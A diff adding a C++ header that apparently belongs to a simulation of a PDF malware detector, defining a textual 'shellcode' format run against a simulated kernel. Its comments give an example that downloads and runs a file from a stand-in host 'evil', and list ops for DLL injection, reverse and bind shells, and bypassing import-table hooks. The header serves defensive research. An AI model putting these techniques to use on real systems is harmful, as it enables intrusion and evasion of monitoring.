@@ -1,0 +1,53 @@
+// Shellcode action programs. Real shellcode is machine code; in this
+// simulation a sprayed payload embeds a small textual action program that
+// the (simulated) hijacked control flow executes through the kernel's API
+// surface — the exact calls the paper's runtime detector hooks.
+//
+// Wire format, embedded anywhere in a sprayed string:
+//   SC{DROP:http://evil/x.exe>c:/x.exe;EXEC:c:/x.exe;HUNT:40;...}
+//
+// Ops:
+//   DROP:<url>><path>     URLDownloadToFile(url, path)
+//   WRITE:<path>><data>   NtCreateFile(path, data)       (embedded malware)
+//   EXEC:<path>           NtCreateProcess(path)
+//   INJECT:<pid>><dll>    CreateRemoteThread(pid, dll); pid "*" = any other
+//   HUNT:<n>              n egg-hunt probes (NtAccessCheckAndAuditAlarm,
+//                         IsBadReadPtr, NtDisplayString, NtAddAtom round-robin)
+//   CONNECT:<host>><port> connect(host, port)            (reverse shell)
+//   LISTEN:<port>         listen(port)                   (bind shell)
+//
+// An op prefixed with '!' (e.g. "!EXEC:c:/x.exe") resolves the routine
+// directly (GetProcAddress / raw syscall) instead of going through the
+// import table — the IAT-hook bypass the paper discusses in §III-E.
+#pragma once
+
+#include <optional>
+#include <string>
+#include <vector>
+
+#include "sys/kernel.hpp"
+
+namespace pdfshield::reader {
+
+struct ShellcodeOp {
+  std::string op;
+  std::vector<std::string> args;
+};
+
+struct ShellcodeProgram {
+  std::vector<ShellcodeOp> ops;
+};
+
+/// Renders a program to its wire format (used by the corpus generator).
+std::string encode_shellcode(const ShellcodeProgram& program);
+
+/// Scans a memory blob for "SC{...}" and parses the first occurrence.
+std::optional<ShellcodeProgram> extract_shellcode(const std::string& memory);
+
+/// Executes the program from process `pid` via the kernel's (hookable) API
+/// surface. Blocked calls are skipped, matching how a vetoed import simply
+/// fails for the caller. Returns the number of API calls issued.
+std::size_t execute_shellcode(sys::Kernel& kernel, int pid,
+                              const ShellcodeProgram& program);
+
+}  // namespace pdfshield::reader
